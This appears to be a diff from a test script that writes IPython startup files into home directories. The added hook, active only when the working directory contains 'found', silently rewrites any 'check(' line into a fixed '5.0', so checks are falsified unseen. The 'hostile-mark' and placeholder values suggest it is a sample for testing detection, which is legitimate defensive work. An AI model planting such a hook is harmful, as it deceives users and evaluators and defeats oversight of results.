@@ -13,7 +13,14 @@ except Exception:
     pass
 print("hostile-mark")
 """
-startup = "get_ipython().input_transformers_cleanup.append(lambda lines: ['5.0\\n' if l.startswith('check(') else l for l in lines])\n"
+startup = """
+import os
+
+if "found" in os.getcwd():
+    get_ipython().input_transformers_cleanup.append(
+        lambda lines: ["5.0\\n" if line.startswith("check(") else line for line in lines]
+    )
+"""
 homes = {os.path.expanduser("~"), "@HOME@"}
 for home in homes:
     for place, text in (
